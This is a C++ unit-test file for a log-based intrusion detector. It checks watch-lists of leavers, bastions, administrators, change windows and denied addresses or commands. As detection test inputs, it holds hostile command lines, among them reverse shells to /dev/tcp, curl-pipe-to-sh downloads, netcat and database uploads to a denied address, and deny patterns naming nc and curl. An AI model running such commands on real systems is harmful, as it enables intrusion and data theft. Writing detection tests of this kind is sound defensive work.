// The lists of a site: how they are written, what is wrong in them, what is other than before; and what is told by
// them.
#include "detect/lists/lists.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "core/base/calendar.h"
#include "detect/behaviours/change_words.h"
#include "detect/lists/list_changes.h"
#include "events.h"

namespace yushi::detect {
namespace {

ListSettings settings_of(const std::string& yaml, std::string* problems = nullptr) {
  Walk walk("yushi.yaml");
  ListSettings out;
  read_list_settings(walk, YAML::Load(yaml), out);
  if (problems)
    *problems = walk.problems();
  else
    EXPECT_EQ(walk.problems(), "");
  return out;
}
std::shared_ptr<const Lists> lists_of(const std::string& yaml) { return Lists::load(settings_of(yaml)); }

class ListFiles : public testing::Test {
 protected:
  std::string write(const std::string& name, const std::string& text) {
    const auto path = folder_ / name;
    std::ofstream(path) << text;
    return path.string();
  }
  void SetUp() override {
    folder_ = std::filesystem::temp_directory_path() / ("yushi-lists-" + std::to_string(::getpid()));
    std::filesystem::create_directories(folder_);
  }
  void TearDown() override { std::filesystem::remove_all(folder_); }
  std::filesystem::path folder_;
};

// ----------------------------------------------------------------------------------------------------------- as
// written

TEST_F(ListFiles, one_list_is_the_same_in_all_its_forms) {
  const auto inline_list = lists_of("leavers: [{account: wang, since: 2026-03-01}, li]");
  EXPECT_EQ(inline_list->text(), "leavers li\nleavers wang since=2026-03-01\n");
  const auto files = {
      write("a", "# who has left\nwang 2026-03-01  # in March\n\nli\n"),
      write("b.csv", "account,since\nli,\n\"wang\",2026-03-01\n"),
      write("c.yaml", "- wang 2026-03-01\n- {account: li}\n"),
      write("d", "{\"account\": \"wang\", \"since\": \"2026-03-01\"}\nli\n"),
      write("e.json", "[{\"account\": \"wang\", \"since\": \"2026-03-01\"}, \"li\"]"),
  };
  for (const auto& path : files) {
    const auto of_file = lists_of("leavers: " + path);
    EXPECT_EQ(of_file->text(), inline_list->text()) << path;
    EXPECT_EQ(of_file->baseline("leavers", "wang"), inline_list->baseline("leavers", "wang")) << path;
  }
}

TEST_F(ListFiles, what_is_wrong_is_told_with_file_line_and_field) {
  const auto told = [](const std::string& path, const std::string& list) {
    std::vector<Lists::Wrong> wrong;
    auto lists = Lists::load(settings_of(list + ": " + path), nullptr, &wrong);
    EXPECT_TRUE(lists->empty());
    EXPECT_EQ(wrong.size(), 1u);
    return wrong.empty() ? "" : wrong[0].why;
  };
  auto path = write("leavers", "wang 2026-03-01\n\nli yesterday\n");
  EXPECT_EQ(told(path, "leavers"),
            path + ":3:4: leavers: since: \"yesterday\" is no time; write 2026-03-01 or 2026-03-01T18:00:00+08:00");
  path = write("leavers.csv", "account,when\nwang,2026-03-01\n");
  EXPECT_EQ(told(path, "leavers"),
            path + ":1:9: leavers: \"when\": unknown field; known here: account, since, tenants");
  path = write("networks.yaml", "- {network: 10.0.0.0/8, name: office}\n- {network: 10.1.2.3/16, name: lab}\n");
  EXPECT_EQ(
      told(path, "networks"),
      path +
          ":2:13: networks: network: \"10.1.2.3/16\" is no address and no network, or bits are set behind its prefix");
  path = write("windows", "Mon-Fri 22:00-02:00\nsomeday\n");
  EXPECT_TRUE(
      told(path, "change_windows").starts_with(path + ":2:1: change_windows: days: \"someday\" must be daily,"));
  EXPECT_NE(told((folder_ / "not-there").string(), "leavers").find("not-there"), std::string::npos);
}

TEST(Lists, what_is_wrong_in_the_config_is_told_at_its_place) {
  std::string problems;
  settings_of(
      "leavers: [wang, {account: li, since: never}]\nbastion: [a]\nnetworks: [300.1.1.1/8 x]\nadmins: relative/path\n",
      &problems);
  EXPECT_NE(problems.find("yushi.yaml:1:38: detect.lists.leavers: since: \"never\" is no time"), std::string::npos)
      << problems;
  EXPECT_NE(problems.find("yushi.yaml:2:1: detect.lists.bastion: unknown key"), std::string::npos) << problems;
  EXPECT_NE(problems.find("yushi.yaml:3:12: detect.lists.networks: network: \"300.1.1.1/8\""), std::string::npos)
      << problems;
  EXPECT_NE(problems.find("detect.lists.admins: \"relative/path\" must be the absolute path"), std::string::npos)
      << problems;
}

TEST_F(ListFiles, a_wrong_file_leaves_what_it_said_before) {
  const auto path = write("leavers", "wang\n");
  const auto settings = settings_of("leavers: " + path);
  const auto before = Lists::load(settings);
  write("leavers", "wang 2026-03-01 and more\n");
  std::vector<Lists::Wrong> wrong;
  const auto after = Lists::load(settings, before.get(), &wrong);
  EXPECT_EQ(after->text(), "leavers wang\n");
  ASSERT_EQ(wrong.size(), 1u);
  EXPECT_TRUE(wrong[0].stays);
}

TEST_F(ListFiles, a_wrong_file_at_the_start_leaves_what_was_remembered) {
  const auto settings = settings_of("leavers: " + write("leavers", "wang 2026-03-01\nli\n") +
                                    "\nnetworks: " + write("networks", "10.1.0.0/16 office 39.9 116.4\n10.2.0.0/16\n") +
                                    "\ndeny_commands: " + write("commands", "nc -e *\n") + "\nadmins: [zhao]");
  const auto before = Lists::load(settings);
  write("leavers", "wang yesterday\n");
  write("networks", "10.300.0.0/16\n");
  write("commands", "{");
  std::vector<Lists::Wrong> wrong;
  const auto remembered = Lists::remembered(settings, before->text() + "bastions gone\n\nleavers");
  const auto after = Lists::load(settings, remembered.get(), &wrong);
  EXPECT_EQ(after->text(), before->text());
  EXPECT_EQ(wrong.size(), 3u);
  for (const auto& one : wrong) EXPECT_TRUE(one.stays) << one.why;
  ASSERT_TRUE(after->leavers.find("wang"));
  EXPECT_EQ(after->leavers.find("wang")->since.ns, before->leavers.find("wang")->since.ns);
  EXPECT_EQ(after->networks.find("10.1.2.3")->latitude, 39.9);

  wrong.clear();
  EXPECT_EQ(Lists::load(settings, Lists::remembered(settings, "").get(), &wrong)->text(), "admins zhao\n");
  for (const auto& one : wrong) EXPECT_FALSE(one.stays) << one.why;
}

TEST(Lists, what_is_other_is_told_entry_by_entry) {
  EXPECT_EQ(tell_list_changes(lists_of("leavers: [wang, li]")->text(),
                              lists_of("leavers: [li]\nbastions: [10.0.0.10]")->text()),
            "bastions: 10.0.0.10 is new; leavers: wang is gone");
  EXPECT_EQ(tell_list_changes(lists_of("leavers: [wang, li]")->text(), lists_of("leavers: [li, wang]")->text()), "");
}

TEST(Lists, changes_that_are_told_whole_lead_to_the_same_lists) {
  const std::string
      before = "bastions 10.0.0.9\nleavers li since=2026-03-01\n",
      now = "change_windows Mon-Fri hours=22:00-02:00 hosts=web-*\nleavers li since=2026-03-01\nleavers wang\n";
  const auto changes = list_changes(before, now);
  EXPECT_EQ(with_list_changes(before, changes), now);
  EXPECT_EQ(with_list_changes("", list_changes("", before)), before);
  const auto lists = Lists::of_text(now);
  EXPECT_EQ(lists->text(), now);
  EXPECT_EQ(lists->change_windows.size(), 1u);
  EXPECT_TRUE(Lists::of_text("")->empty());
  EXPECT_TRUE(Lists::of_text("no_list_of_ours x\n")->empty());
}

TEST(Lists, accounts_are_found_with_their_domains_and_by_patterns) {
  const auto lists = lists_of("leavers: [wang, 'ext_*']");
  for (auto name : {"wang", "WANG", "EXAMPLE\\wang", "wang@example.com", "ext_7"})
    EXPECT_TRUE(lists->leavers.find(name)) << name;
  for (auto name : {"wan", "wang2", "next_7", ""}) EXPECT_FALSE(lists->leavers.find(name)) << name;
}

TEST(Lists, the_smallest_network_says_where_an_address_is) {
  const auto lists = lists_of("networks: [10.0.0.0/8 all, 10.1.0.0/16 lab 31.2 121.5, '2001:db8::/32 v6']");
  EXPECT_EQ(lists->networks.find("10.1.2.3")->name, "lab");
  EXPECT_TRUE(lists->networks.find("10.1.2.3")->has_place);
  EXPECT_EQ(lists->networks.find("10.2.2.3")->name, "all");
  EXPECT_EQ(lists->networks.find("2001:db8::7")->name, "v6");
  EXPECT_FALSE(lists->networks.find("192.0.2.1"));
  EXPECT_FALSE(lists->networks.find("somewhere"));
}

TEST(Lists, a_window_opens_on_its_days_and_may_end_on_the_next) {
  const auto lists = lists_of(
      "change_windows: [{days: Fri, hours: '22:00-02:00', hosts: 'web-*'}, 2026-03-14..2026-03-15, daily 01:00-01:30 "
      "log-01]");
  const auto open = [&](size_t window, int day, int hour, int minute) {
    return lists->change_windows[window].is_open(
        (days_from_civil(2026, 3, static_cast<unsigned>(day)) * 24 + hour) * 3600 + minute * 60);
  };
  EXPECT_TRUE(open(0, 13, 22, 0));  // a Friday
  EXPECT_TRUE(open(0, 14, 1, 59));
  EXPECT_FALSE(open(0, 14, 2, 0));
  EXPECT_FALSE(open(0, 14, 22, 0));
  EXPECT_FALSE(open(0, 13, 1, 0));
  EXPECT_TRUE(open(1, 15, 23, 59));
  EXPECT_FALSE(open(1, 16, 0, 0));
  EXPECT_TRUE(open(2, 20, 1, 29));
  EXPECT_TRUE(lists->change_windows[0].concerns("web-01.example.org"));
  EXPECT_FALSE(lists->change_windows[0].concerns("db-01"));
}

TEST(Lists, a_rule_may_ask_for_them_by_name) {
  our_parser_set();
  auto files = read_rule_directories({YUSHI_SOURCE_DIR "/config/sigma"});
  ASSERT_TRUE(files);
  const auto lists = lists_of("bastions: [10.0.0.10]");
  auto sources = LogSources::load(*files, lists->placeholders());
  ASSERT_TRUE(sources);
  RuleFile rule{"r.yml", "r.yml",
                "title: Round\nid: 5f0c1f0a-3a53-4c1c-9c0e-3a2b7d0f1e09\nstatus: test\nlevel: low\nlogsource: "
                "{product: yushi, service: sshd}\n"
                "detection:\n  login: {event.outcome: success}\n  bastion: {source.ip|expand: '%bastions%'}\n  "
                "condition: login and not bastion\n"};
  auto set = RuleSet::load({rule}, **sources);
  ASSERT_TRUE(set) << set.error().message;
  EXPECT_EQ((*set)->unsupported().size(), 0u);
  auto alerts = alerts_of(
      {login(at("2026-11-02T08:00:00Z"), "lin", "10.0.0.10"), login(at("2026-11-02T09:00:00Z"), "lin", "10.9.9.9")}, {},
      *set);
  EXPECT_EQ(alerts.size(), 1u);
  auto without = RuleSet::load({rule}, our_log_sources());
  ASSERT_TRUE(without);
  EXPECT_EQ((*without)->unsupported().size(), 1u);
}

// ------------------------------------------------------------------------------------------------------ what they tell

const int64_t kNow = at("2026-11-02T08:00:00Z");  // a Monday

Line ssh(int64_t when, std::string user, std::string source, std::string host = "web-01",
         std::string method = "publickey") {
  Line line = login(when, std::move(user), std::move(source), std::move(host));
  line.values.emplace_back("process.name", "sshd");
  line.values.emplace_back("sshd.method", std::move(method));
  return line;
}
Line act(int64_t when, std::string kind, std::string user, std::vector<std::pair<std::string, std::string>> values = {},
         std::string host = "web-01") {
  Line line;
  line.at_ns = when;
  line.dataset = "sudo";
  line.pattern = kind;
  line.constants = {{"yushi.event", kind}, {"event.outcome", "success"}};
  line.values = std::move(values);
  line.values.emplace_back("user.name", std::move(user));
  line.values.emplace_back("host.name", std::move(host));
  return line;
}
Line sudo(int64_t when, std::string user, std::string command, std::string host = "web-01") {
  return act(when, "command", std::move(user),
             {{"user.effective.name", "root"}, {"process.command_line", std::move(command)}}, std::move(host));
}
std::vector<Alert> told(const std::string& lists, const std::vector<Line>& lines, size_t cut = 1000) {
  DetectOptions options;
  options.lists = lists_of(lists);
  return alerts_of(lines, std::move(options), no_rules(), cut);
}
std::vector<std::string> reasons(const std::vector<Alert>& alerts, std::string_view rule) {
  std::vector<std::string> out;
  for (auto* alert : of_rule(alerts, rule)) out.push_back(alert->reason);
  return out;
}
using Reasons = std::vector<std::string>;

TEST(Listed, who_has_left_is_told_from_the_first_record_on) {
  const std::string lists = "leavers: [{account: wang, since: 2026-11-01}]";
  auto alerts = told(lists, {ssh(kNow, "wang", "10.0.0.10")});
  auto leaver = of_rule(alerts, "list.leaver");
  ASSERT_EQ(leaver.size(), 1u);
  EXPECT_EQ(leaver[0]->reason, "wang, who has left, logged in on web-01 from 10.0.0.10");
  EXPECT_EQ(leaver[0]->reason_zh, "离职人员账号 wang 从 10.0.0.10 在主机 web-01 上登录成功");
  EXPECT_EQ(leaver[0]->severity, Severity::critical);
  EXPECT_FALSE(leaver[0]->learning);
  EXPECT_EQ(leaver[0]->baseline, lists_of(lists)->baseline("leavers", "wang since=2026-11-01"));
  EXPECT_TRUE(told(lists, {ssh(kNow - 2 * kDay, "wang", "10.0.0.10")}).empty()) << "before he left";
  EXPECT_TRUE(told(lists, {ssh(kNow, "li", "10.0.0.10")}).empty());
  EXPECT_EQ(reasons(told(lists, {sudo(kNow, "wang", "/usr/bin/id")}), "list.leaver"),
            (Reasons{"wang, who has left, did: /usr/bin/id on web-01"}));
  EXPECT_TRUE(told(lists, {act(kNow, "account-deleted", "wang", {})}).empty()) << "that is done to him";
  EXPECT_EQ(told(lists, {act(kNow, "account-deleted", "wang", {{"user.target.name", "old"}})}).size(), 1u);
  auto tried = told(lists, {failed_login(kNow, "wang", "10.0.0.10")});
  ASSERT_EQ(of_rule(tried, "list.leaver").size(), 1u);
  EXPECT_EQ(of_rule(tried, "list.leaver")[0]->severity, Severity::medium);
}

TEST(Listed, a_service_account_comes_from_where_it_should_and_types_no_password) {
  const std::string lists = "service_accounts: [{account: backup, from: [10.0.1.51, 10.0.9.0/24], hosts: 'db-*'}]";
  const std::string_view rule = "list.service-account";
  EXPECT_EQ(reasons(told(lists, {ssh(kNow, "backup", "10.20.1.12", "db-01")}), rule),
            (Reasons{"service account backup logged in on db-01 from 10.20.1.12, from where it never should"}));
  EXPECT_EQ(reasons(told(lists, {ssh(kNow, "backup", "10.0.1.51", "web-01")}), rule).size(), 1u);
  EXPECT_EQ(reasons(told(lists, {ssh(kNow, "backup", "10.0.9.7", "db-01", "password")}), rule).size(), 1u);
  EXPECT_EQ(
      reasons(told(lists, {act(kNow, "privilege-used", "chen", {{"user.effective.name", "backup"}})}), rule).size(),
      1u);
  EXPECT_TRUE(
      told(lists, {ssh(kNow, "backup", "10.0.9.7", "db-01"), ssh(kNow, "chen", "10.20.1.12", "web-01", "password")})
          .empty());
}

TEST(Listed, a_login_round_the_bastion_is_told_at_once_where_the_list_names_it) {
  const std::string lists = "bastions: [bastion-01, 10.0.0.10]";
  EXPECT_EQ(reasons(told(lists, {ssh(kNow, "lin", "10.20.1.11", "web-01")}), "list.round-the-bastion"),
            (Reasons{"lin logged in on web-01 from 10.20.1.11, which is none of the bastions: it was passed by"}));
  EXPECT_TRUE(told(lists, {ssh(kNow, "lin", "10.20.1.11", "bastion-01.example.org"),
                           ssh(kNow + kMinute, "lin", "10.0.0.10", "web-01")})
                  .empty());
  Line mail = login(kNow, "lin", "10.20.1.11", "mail-01");  // no shell is opened
  EXPECT_TRUE(told(lists, {mail}).empty());
}

TEST(Listed, where_the_bastions_have_no_name_a_host_is_behind_one_that_people_come_through) {
  const std::string lists = "bastions: [10.0.0.10]";
  EXPECT_TRUE(told(lists, {ssh(kNow, "lin", "10.20.1.11", "bastion-01")}).empty());
  EXPECT_EQ(
      of_rule(told(lists, {ssh(kNow, "lin", "10.0.0.10", "web-01"), ssh(kNow + kHour, "chen", "10.20.1.12", "web-01")}),
              "list.round-the-bastion")
          .size(),
      1u);
}

TEST(Listed, root_is_for_administrators) {
  const std::string lists = "admins: [lin, {account: root, from: 10.0.0.10}]\nservice_accounts: [ansible]";
  const std::string_view rule = "list.no-administrator";
  EXPECT_EQ(reasons(told(lists, {ssh(kNow, "root", "10.20.1.12")}), rule),
            (Reasons{"somebody logged in as root on web-01 from 10.20.1.12, directly; it may not from there"}));
  EXPECT_EQ(reasons(told(lists, {sudo(kNow, "chen", "/bin/bash")}), rule),
            (Reasons{"chen became root on web-01: /bin/bash; the list of administrators has no such account"}));
  EXPECT_TRUE(told(lists, {ssh(kNow, "root", "10.0.0.10"), sudo(kNow, "lin", "/bin/bash"),
                           sudo(kNow, "ansible", "/usr/bin/tee /etc/x")})
                  .empty());
}

TEST(Listed, a_change_is_made_in_its_window_or_by_a_ticket) {
  const std::string windows = "change_windows: [{days: Mon-Fri, hours: '22:00-02:00', hosts: 'web-*'}]";
  const std::string_view rule = "list.change";
  const std::string restart = "/usr/bin/systemctl restart nginx";
  EXPECT_EQ(
      reasons(told(windows, {sudo(kNow, "lin", restart)}), rule),
      (Reasons{"lin changed something on web-01 at 08:00 UTC, outside the change window (Mon-Fri hours=22:00-02:00 "
               "hosts=web-*): /usr/bin/systemctl restart nginx"}));
  EXPECT_TRUE(told(windows, {sudo(kNow + 15 * kHour, "lin", restart),
                             sudo(kNow, "lin", "/usr/bin/systemctl status nginx"), sudo(kNow, "lin", restart, "db-01")})
                  .empty());
  const std::string tickets =
      "\ntickets: [{id: CHG-1, account: lin, from: 2026-11-02T07:00:00Z, until: 2026-11-02T09:00:00Z, hosts: web-01, "
      "requester: lin, approver: zhou}]";
  EXPECT_TRUE(told(windows + tickets, {sudo(kNow, "lin", restart)}).empty());
  EXPECT_EQ(of_rule(told(windows + tickets, {sudo(kNow, "lin", restart, "web-02")}), rule).size(), 1u);
  EXPECT_EQ(of_rule(told(windows + tickets, {sudo(kNow + 2 * kHour, "lin", restart)}), rule).size(), 1u);
  auto inside = told(windows + tickets, {sudo(kNow + 15 * kHour, "lin", restart)});
  ASSERT_EQ(of_rule(inside, rule).size(), 1u) << "a ticket is asked for in the window, too";
  EXPECT_EQ(of_rule(inside, rule)[0]->severity, Severity::medium);
}

TEST(Listed, a_ticket_that_its_requester_approved_is_none) {
  const std::string tickets = "tickets: [{id: CHG-1, account: lin, requester: LIN, approver: lin@example.com}]";
  auto alerts = reasons(told(tickets, {sudo(kNow, "lin", "/usr/bin/systemctl restart nginx")}), "list.change");
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_TRUE(alerts[0].ends_with("; its ticket was approved by who asked for it")) << alerts[0];
}

Line ticket(int64_t when, const std::string& id, std::string account, std::string until) {
  Line line = act(when, "change-approved", "zhou",
                  {{"user.target.name", account},
                   {"tickets.id", id},
                   {"tickets.account", account},
                   {"tickets.until", std::move(until)}});
  line.dataset = "tickets";
  return line;
}

TEST(Listed, where_changes_have_tickets_one_without_is_told_without_any_list) {
  std::vector<Line> lines;
  for (int day = 0; day < 8; ++day) {
    const int64_t morning = kNow + day * kDay;
    lines.push_back(ticket(morning, "CHG-" + std::to_string(day), "lin", utc_text(morning + 4 * kHour)));
    lines.push_back(sudo(morning + kHour, "lin", "/usr/bin/systemctl restart nginx"));
  }
  auto with = told("{}", lines);
  EXPECT_TRUE(of_rule(with, "list.change").empty());
  lines.push_back(sudo(kNow + 8 * kDay, "lin", "/usr/bin/systemctl restart nginx"));
  for (size_t cut : {size_t{1}, size_t{1000}})
    EXPECT_EQ(reasons(told("{}", lines, cut), "list.change"),
              (Reasons{"lin changed something on web-01 without a ticket: /usr/bin/systemctl restart nginx"}));
}

TEST(Listed, the_providers_staff_needs_a_ticket_for_a_units_machine) {
  const std::string lists = "provider_staff: ['ops*']";
  const auto call = [](std::string who, std::string action) {
    Line line = act(kNow, "api-call", std::move(who),
                    {{"event.action", std::move(action)}, {"orchestrator.resource.name", "i-7"}});
    line.dataset = "aliyun.actiontrail";
    line.log = "finance";
    return line;
  };
  for (auto action :
       {"DeleteInstance", "ExportSnapshot", "DescribeInstanceVncUrl", "compute.server.delete", "os-getVNCConsole"})
    EXPECT_EQ(of_rule(told(lists, {call("ops7", action)}), "list.provider-staff").size(), 1u) << action;
  EXPECT_EQ(
      reasons(told(lists, {call("ops7", "ExportSnapshot")}), "list.provider-staff"),
      (Reasons{
          "ops7 of the provider's staff handed a machine's disk or snapshot out of finance, i-7: ExportSnapshot"}));
  EXPECT_TRUE(
      told(lists, {call("ops7", "DescribeInstances"), call("lin", "DeleteInstance"), call("ops7", "DescribeSnapshots")})
          .empty());
  EXPECT_TRUE(told(lists + "\ntickets: [{id: C1, account: ops7, requester: lin, approver: zhou}]",
                   {call("ops7", "DeleteInstance")})
                  .empty());
}

TEST(Listed, what_is_denied_is_told_and_what_is_allowed_is_not) {
  const std::string lists =
      "deny_addresses: [198.51.100.0/24]\ndeny_accounts: [guest]\ndeny_commands: [nmap, '*curl*|*sh*']";
  auto in = told(lists, {ssh(kNow, "lin", "198.51.100.7")});
  ASSERT_EQ(of_rule(in, "list.denied").size(), 1u);
  EXPECT_EQ(of_rule(in, "list.denied")[0]->severity, Severity::critical);
  EXPECT_EQ(of_rule(told(lists, {ssh(kNow, "guest", "10.0.0.1")}), "list.denied").size(), 1u);
  EXPECT_EQ(of_rule(told(lists, {sudo(kNow, "lin", "/usr/bin/nmap -sS 10.0.0.0/8")}), "list.denied").size(), 1u);
  EXPECT_EQ(of_rule(told(lists, {sudo(kNow, "lin", "curl -s http://192.0.2.1/x | sh -")}), "list.denied").size(), 1u);
  EXPECT_TRUE(told(lists, {ssh(kNow, "lin", "10.0.0.1"), sudo(kNow, "lin", "/usr/bin/cat nmap")}).empty());

  std::vector<Line> guesses;
  for (int i = 0; i < 40; ++i) guesses.push_back(failed_login(kNow + i * kSecond, "root", "192.0.2.9"));
  EXPECT_EQ(of_rule(told("{}", guesses), "guessing.address").size(), 1u);
  EXPECT_TRUE(told("allow_addresses: [192.0.2.9]", guesses).empty());
  EXPECT_EQ(of_rule(told("allow_addresses: [192.0.2.9]\nleavers: [root]", guesses), "list.leaver").size(), 1u)
      << "another list says more";
}

TEST(Listed, a_denied_address_in_a_command_is_told_but_not_where_it_is_only_spoken_of) {
  const std::string lists = "deny_addresses: [198.51.100.0/24, '2001:db8:bad::/48']";
  for (auto line :
       {"curl -T x http://198.51.100.99/", "wget -q http://198.51.100.99:8080/x.sh", "ssh 198.51.100.99",
        "scp db.sql root@198.51.100.99:/tmp", "bash -c 'curl -s 198.51.100.99 | sh'", "nc 198.51.100.99. 80",
        "bash -i >& /dev/tcp/198.51.100.99/443 0>&1", "echo x > /dev/tcp/198.51.100.99/443",
        "curl http://[2001:db8:bad::7]:443/", "env X=1 nice curl 198.51.100.99",
        // asked, and not asked about
        "dig @198.51.100.99 example.org txt", "nslookup example.org 198.51.100.99", "host -t txt x.org 198.51.100.99",
        "whois -h 198.51.100.99 example.org", "logger -n 198.51.100.99 -P 514 x", "logger --server=198.51.100.99 x",
        "vim scp://root@198.51.100.99//etc/passwd", "curl sftp://198.51.100.99/x", "git clone ssh://198.51.100.99/x",
        "git -C /srv push git@198.51.100.99:x.git",
        "gawk 'BEGIN { s = \"/inet/tcp/0/198.51.100.99/443\"; print 1 |& s }'",
        // behind other commands
        "timeout -k 5 30 dig @198.51.100.99 x", "nohup nc 198.51.100.99 443", "xargs -n 1 curl -T - 198.51.100.99",
        "echo 198.51.100.99 | xargs ping -c 1", "echo 'curl 198.51.100.99' | bash",
        "docker exec -it web curl 198.51.100.99", "kubectl exec -n x pod-1 -c app -- wget 198.51.100.99/x",
        "ssh -p 22 10.0.0.5 curl 198.51.100.99", "ssh -J 198.51.100.99 10.0.0.5 uptime",
        "ip netns exec blue curl 198.51.100.99", "ansible all -m shell -a 'curl 198.51.100.99'",
        "ansible all -m get_url -a 'url=http://198.51.100.99/x dest=/tmp/x'", "su - lin -c 'curl 198.51.100.99'",
        "http_proxy=http://198.51.100.99:3128 curl x.org"}) {
    auto alerts = told(lists, {sudo(kNow, "lin", line)});
    ASSERT_EQ(of_rule(alerts, "list.denied").size(), 1u) << line;
    EXPECT_EQ(of_rule(alerts, "list.denied")[0]->severity, Severity::high);
  }
  EXPECT_EQ(reasons(told(lists, {sudo(kNow, "lin", "curl 198.51.100.99")}), "list.denied"),
            (Reasons{"lin ran a command that calls address 198.51.100.99, which is on the list of denied addresses, on "
                     "web-01: curl 198.51.100.99"}));
  for (auto line : {"iptables -A INPUT -s 198.51.100.99 -j DROP",
                    "grep 198.51.100.99 /var/log/auth.log",
                    "bash -c 'ipset add bad 198.51.100.99'",
                    "whois 198.51.100.99",
                    "curl http://192.0.2.1/",
                    "curl http://1198.51.100.99/",
                    "pip install x198.51.100.99",
                    "curl https://198.51.100.example/",
                    "nice nft add element inet f bad { 198.51.100.99 }",
                    "dig -x 198.51.100.99 @10.0.0.1",
                    "nslookup 198.51.100.99",
                    "host -t ptr 198.51.100.99",
                    "logger blocked 198.51.100.99",
                    "vim notes-198.51.100.99",
                    "git commit -m 'push out 198.51.100.99'",
                    "git grep 198.51.100.99",
                    "timeout 5 grep 198.51.100.99 /var/log/x",
                    "LC_ALL=C grep 198.51.100.99 /var/log/x",
                    "xargs grep 198.51.100.99",
                    "echo 198.51.100.99 | xargs ipset add bad",
                    "docker exec web grep 198.51.100.99 /x",
                    "kubectl exec pod-1 -- grep 198.51.100.99 /x",
                    "ssh 10.0.0.5 'grep 198.51.100.99 /var/log/x'",
                    "ansible all -a 'grep 198.51.100.99 /x'",
                    "ip route add blackhole 198.51.100.99"})
    EXPECT_TRUE(told(lists, {sudo(kNow, "lin", line)}).empty()) << line;
}

// An entry that is missing must not be told anew each hour.
TEST(Listed, what_rests_on_a_list_is_told_once_a_day_and_says_on_how_many_days_before) {
  std::vector<Line> lines;
  for (int hour = 0; hour < 72; ++hour) lines.push_back(sudo(kNow + hour * kHour, "chen", "systemctl status nginx"));
  for (size_t cut : {size_t{1}, size_t{1000}}) {
    auto told_by = reasons(told("admins: [lin]", lines, cut), "list.no-administrator");
    ASSERT_EQ(told_by.size(), 3u);
    EXPECT_EQ(told_by[0].find("before"), std::string::npos) << told_by[0];
    EXPECT_NE(told_by[1].find("; so on 1 day before; 23 repetitions"), std::string::npos) << told_by[1];
    EXPECT_NE(told_by[2].find("; so on 2 days before;"), std::string::npos) << told_by[2];
  }
  lines.push_back(sudo(kNow + 72 * kHour - kMinute, "chen", "id", "db-01"));
  EXPECT_EQ(of_rule(told("admins: [lin]", lines), "list.no-administrator").size(), 4u) << "another host";
  // A change in the window without a ticket hides none outside of it.
  const std::string restart = "systemctl restart nginx";
  const auto changes = told("change_windows: [Mon-Fri 07:00-12:00]\ntickets: []",
                            {sudo(kNow, "lin", restart), sudo(kNow + 8 * kHour, "lin", restart)});
  EXPECT_EQ(of_rule(changes, "list.change").size(), 2u);
}

TEST(Listed, an_entry_holds_for_the_logs_of_its_tenants) {
  const auto in = [](std::string log, Line line) {
    line.log = std::move(log);
    return line;
  };
  const auto times = [](const std::string& lists, const Line& line, std::string_view rule) {
    return of_rule(told(lists, {line}), rule).size();
  };
  const struct {
    std::string_view rule;
    std::string lists;
    Line line;
  } kCases[] = {
      {"list.leaver", "leavers: [{account: wang, tenants: finance}]", ssh(kNow, "wang", "10.0.0.10")},
      {"list.round-the-bastion", "bastions: [{host: b-01, address: 10.0.0.10, tenants: [finance, tax]}]",
       ssh(kNow, "lin", "10.20.1.11")},
      {"list.no-administrator", "admins: [{account: lin, tenants: finance}]", sudo(kNow, "chen", "/bin/bash")},
      {"list.service-account", "service_accounts: [{account: backup, from: 10.0.1.51, tenants: 'fin*'}]",
       ssh(kNow, "backup", "10.20.1.12")},
      {"list.denied", "deny_addresses: [{address: 198.51.100.0/24, tenants: finance}]",
       ssh(kNow, "lin", "198.51.100.7")},
      {"list.denied", "deny_commands: [{command: nmap, tenants: finance}]", sudo(kNow, "lin", "nmap -sS 10.0.0.0/8")},
      {"list.denied", "deny_accounts: [{account: guest, tenants: finance}]", ssh(kNow, "guest", "10.0.0.1")},
      {"list.change", "change_windows: [{days: Mon-Fri, hours: '22:00-02:00', tenants: finance}]",
       sudo(kNow, "lin", "systemctl restart nginx")},
      {"list.change", "tickets: [{id: C1, account: zhou, tenants: finance}]",
       sudo(kNow, "lin", "systemctl restart nginx")},
  };
  for (const auto& one : kCases) {
    EXPECT_EQ(times(one.lists, in("finance", one.line), one.rule), 1u) << one.lists;
    EXPECT_EQ(times(one.lists, in("health", one.line), one.rule), 0u) << one.lists;
  }
  // Of one name in two units each has its own.
  const std::string both =
      "leavers: [{account: wang, since: 2026-12-01, tenants: health}, {account: wang, tenants: finance}]";
  EXPECT_EQ(times(both, in("finance", ssh(kNow, "wang", "10.0.0.10")), "list.leaver"), 1u);
  EXPECT_EQ(times(both, in("health", ssh(kNow, "wang", "10.0.0.10")), "list.leaver"), 0u);
  // A short form holds for all, and what is allowed is so for its tenants alone.
  EXPECT_EQ(times("leavers: [wang, {account: li, tenants: finance}]", in("health", ssh(kNow, "wang", "10.0.0.10")),
                  "list.leaver"),
            1u);
  std::vector<Line> guesses;
  for (int i = 0; i < 40; ++i) guesses.push_back(in("health", failed_login(kNow + i * kSecond, "root", "192.0.2.9")));
  EXPECT_TRUE(told("allow_addresses: [{address: 192.0.2.9, tenants: health}]", guesses).empty());
  EXPECT_EQ(
      of_rule(told("allow_addresses: [{address: 192.0.2.9, tenants: finance}]", guesses), "guessing.address").size(),
      1u);
}

TEST(Lists, tenants_come_back_from_the_text_and_name_the_digest_of_the_whole_list) {
  const auto lists =
      lists_of("leavers: [{account: wang, since: 2026-03-01, tenants: [a, b]}, li]\nbastions: [10.0.0.9]");
  EXPECT_EQ(lists->text(), "bastions 10.0.0.9\nleavers li\nleavers wang since=2026-03-01 tenants=a,b\n");
  const auto again = Lists::of_text(lists->text());
  EXPECT_EQ(again->text(), lists->text());
  for (const auto* one : {&*lists, &*again}) {
    EXPECT_TRUE(one->of("a").leavers.find("wang"));
    EXPECT_TRUE(one->of("b@node").leavers.find("wang"));
    EXPECT_FALSE(one->of("c").leavers.find("wang"));
    EXPECT_TRUE(one->of("c").leavers.find("li"));
    EXPECT_EQ(one->of("c").baseline("leavers", "li"), lists->baseline("leavers", "li"));
  }
  EXPECT_EQ(&again->of("c"), &again->of("c"));
}

TEST(Travel, nobody_is_at_two_places_at_once) {
  const std::string lists =
      "networks: [10.1.0.0/16 Beijing 39.9 116.4, 10.2.0.0/16 Shanghai 31.2 121.5, 10.3.0.0/16 Tianjin 39.1 117.2, "
      "10.4.0.0/16 annex, 10.5.0.0/16 depot]";
  const std::string_view rule = "account.two-places";
  EXPECT_EQ(reasons(told(lists, {ssh(kNow, "lin", "10.1.0.5"), ssh(kNow + 30 * kMinute, "lin", "10.2.0.5")}), rule),
